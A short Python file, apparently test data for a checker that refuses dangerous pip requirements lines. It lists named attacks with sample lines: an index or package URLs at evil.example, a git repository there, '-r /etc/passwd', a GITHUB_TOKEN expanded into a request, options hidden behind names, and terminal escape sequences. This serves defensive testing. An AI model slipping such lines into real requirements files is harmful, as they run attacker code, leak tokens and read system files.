"""Attacks by a list of requirements, of which pip would make more than names and versions."""

LINES = {
    "index of one's own": ("have pip ask another index", "--index-url https://evil.example/simple"),
    "source allowed again": ("allow packages that run code on being installed", "--no-binary :all:"),
    "requirements of requirements": ("read a file of the installing machine", "-r /etc/passwd"),
    "editable install": ("run a setup.py", "-e ."),
    "path": ("run the setup.py of a folder", "./package"),
    "file": ("install a file", "package-1.0-py3-none-any.whl"),
    "address": ("install from an address", "https://evil.example/x-1.0.tar.gz"),
    "name at an address": ("hide an address behind a name", "numpy @ https://evil.example/numpy-2.0-py3-none-any.whl"),
    "repository": ("run the setup.py of a repository", "git+https://evil.example/x.git"),
    "variable": ("have pip put a token of the environment into a request", "x-${GITHUB_TOKEN}"),
    "option behind a name": ("hide an option behind a name", "numpy --config-settings=x=y"),
    "continued line": ("hide an option on a continued line", "numpy \\"),
    "escape sequences as a name": ("write to the terminal that shows the refusal", "nu\x1b[2Jmpy"),
}
"""By name: what the line tries, and the line."""
